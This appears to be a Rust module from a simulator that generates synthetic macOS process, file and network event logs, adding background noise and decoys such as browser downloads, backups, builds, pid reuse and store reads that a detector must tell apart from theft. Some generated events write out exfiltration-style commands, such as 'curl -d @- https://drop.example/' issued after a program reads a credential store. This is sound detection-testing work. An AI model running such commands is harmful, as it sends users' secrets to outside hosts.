//! What goes on in any world besides: a browser, a backup, a build, a stranger's upload, decoys, pid reuse.

use super::cast::{BACKUPD, CHROME, CURL, LAUNCHD, OWNED, PLACES, PLAIN, Place, STORES, TAR, ZSH};
use super::random::Random;
use super::scene::{Moment, SECOND, Scene};

/// Adds something harmless, or at least unplanned.
pub(crate) fn add(scene: &mut Scene, random: &mut Random, near: Moment) {
    let at = (near + random.between(-200, 900) * SECOND).max(0);
    let launchd = scene.there_is(at, "launchd", 0, LAUNCHD);
    match random.below(8) {
        0 => browser(scene, random, at, launchd),
        1 => backup(scene, at, launchd),
        2 => build(scene, random, at, launchd),
        3 => decoy(scene, random, at, launchd),
        4 => reuse(scene, random, at, launchd),
        5 => contact(scene, random, at),
        6 => owner(scene, random, at, launchd),
        _ => connects(scene, random, at, launchd),
    }
}

fn flow(scene: &mut Scene, random: &mut Random, at: Moment) {
    let (uid, place) = (scene.uid(), random.pick(PLACES));
    let out = random.pick(&[500, 70_000, 400_000]);
    scene.say(at, &format!("flow {uid} 10.0.0.5:51000 -> {}:443 tcp for 2s out={out} in=9000 service=ssl", place.address));
    if random.chance(80) {
        scene.say(at, &format!("tls {uid} sni={} established validated=yes", place.name));
    }
    if random.chance(60) {
        scene.say(at, &format!("dns 10.0.0.5 {} -> {} ttl=300", place.name, place.address));
    }
}

/// Somebody goes where others will.
pub(crate) fn visit(scene: &mut Scene, place: Place, at: Moment) {
    let uid = scene.uid();
    scene.say(at, &format!("flow {uid} 10.0.0.5:51900 -> {}:443 tcp for 2s out=900 in=9000 service=ssl", place.address));
    scene.say(at, &format!("tls {uid} sni={} established", place.name));
    scene.say(at, &format!("dns 10.0.0.5 {} -> {} ttl=60", place.name, place.address));
}

fn browser(scene: &mut Scene, random: &mut Random, at: Moment, launchd: u32) {
    let pid = scene.spawn(at, launchd, CHROME, "Chrome");
    scene.say(at + SECOND, &format!("read {pid} \"{}\" size=40000", OWNED[0].1));
    scene.say(at + SECOND, &format!("create {pid} /Users/ana/Downloads/file.zip"));
    flow(scene, random, at + 2 * SECOND);
    scene.say(at + 3 * SECOND, &format!("close {pid} /Users/ana/Downloads/file.zip modified size=70000"));
}

fn backup(scene: &mut Scene, at: Moment, launchd: u32) {
    let pid = scene.spawn(at, launchd, BACKUPD, "backupd");
    for store in STORES {
        scene.say(at + SECOND, &format!("read {pid} \"{store}\" size=9000"));
    }
    scene.say(at + 9 * SECOND, &format!("exit {pid}"));
}

/// A build that packs plain files and sends the archive, as notarisation does.
fn build(scene: &mut Scene, random: &mut Random, at: Moment, launchd: u32) {
    let place = random.pick(PLACES);
    let shell = scene.spawn(at, launchd, ZSH, "zsh build.sh");
    let tar = scene.spawn(at + SECOND, shell, TAR, &format!("tar -czf /private/tmp/app.tgz {}", PLAIN[0]));
    scene.say(at + 2 * SECOND, &format!("create {tar} /private/tmp/app.tgz"));
    scene.say(at + 2 * SECOND, &format!("read {tar} {} size=70000", PLAIN[0]));
    scene.say(at + 3 * SECOND, &format!("close {tar} /private/tmp/app.tgz modified size=70000"));
    scene.say(at + 3 * SECOND, &format!("exit {tar}"));
    let argv = format!("curl -T /private/tmp/app.tgz https://{}/n", place.name);
    let curl = scene.spawn(at + 4 * SECOND, shell, CURL, &argv);
    scene.say(at + 5 * SECOND, &format!("read {curl} /private/tmp/app.tgz size=70000"));
    flow(scene, random, at + 5 * SECOND);
    scene.say(at + 9 * SECOND, &format!("exit {curl}"));
}

/// Somebody whose arguments name a place where others send.
fn decoy(scene: &mut Scene, random: &mut Random, at: Moment, launchd: u32) {
    let pid = scene.spawn(at, launchd, CURL, &format!("curl https://{}/status", random.pick(PLACES).name));
    scene.say(at + random.pick(&[1, 300, 4_000]) * SECOND, &format!("exit {pid}"));
}

/// A reader whose pid another gets, that then sends.
fn reuse(scene: &mut Scene, random: &mut Random, at: Moment, launchd: u32) {
    let pid = scene.spawn(at, launchd, ZSH, "zsh");
    scene.say(at + SECOND, &format!("read {pid} \"{}\" size=400", random.pick(STORES)));
    scene.say(at + 2 * SECOND, &format!("exit {pid}"));
    let place = random.pick(PLACES);
    scene.say(at + 3 * SECOND, &format!("fork {launchd} -> {pid}"));
    scene.exec(at + 3 * SECOND, pid, CURL, &format!("curl -d x https://{}/", place.name));
    let uid = scene.uid();
    scene.say(at + 4 * SECOND, &format!("flow {uid} 10.0.0.5:52000 -> {}:443 tcp for 1s out=90 in=9", place.address));
    scene.say(at + 4 * SECOND, &format!("dns 10.0.0.5 {} -> {} ttl=5", place.name, place.address));
}

/// An earlier contact with a place, up to and beyond the day that makes it known.
fn contact(scene: &mut Scene, random: &mut Random, at: Moment) {
    let before = random.pick(&[100, 1_000, 20_000, 86_300]) * SECOND;
    flow(scene, random, (at - before).max(0));
}

fn owner(scene: &mut Scene, random: &mut Random, at: Moment, launchd: u32) {
    let (program, store) = random.pick(OWNED);
    let pid = scene.spawn(at, launchd, program, "program");
    scene.say(at + SECOND, &format!("read {pid} \"{store}\" size=4000"));
    match random.below(4) {
        0 => scene.exec(at + 2 * SECOND, pid, CURL, "curl -d @- https://drop.example/"),
        1 => scene.say(at + 2 * SECOND, &format!("rename {pid} \"{store}\" -> /private/tmp/moved.db")),
        2 => scene.say(at + 2 * SECOND, &format!("copy {pid} \"{store}\" -> /private/tmp/out1.zip size=4000")),
        _ => flow(scene, random, at + 2 * SECOND),
    }
}

/// Several connects to one place, to be paired with flows.
fn connects(scene: &mut Scene, random: &mut Random, at: Moment, launchd: u32) {
    let place = random.pick(PLACES);
    for number in 0..3 {
        let pid = scene.spawn(at + number * SECOND, launchd, CURL, "curl -K conf");
        scene.say(at + number * SECOND + SECOND / 2, &format!("connect {pid} tcp -> {}:443", place.address));
        if random.chance(50) {
            let store = random.pick(STORES);
            scene.say(at + number * SECOND + SECOND / 2, &format!("read {pid} \"{store}\" size=80000"));
        }
        if random.chance(60) {
            let uid = scene.uid();
            let start = at + (number + random.between(0, 2)) * SECOND;
            scene.say(start, &format!("flow {uid} 10.0.0.5:53000 -> {}:443 tcp for 1s out=80000 in=20", place.address));
        }
    }
}
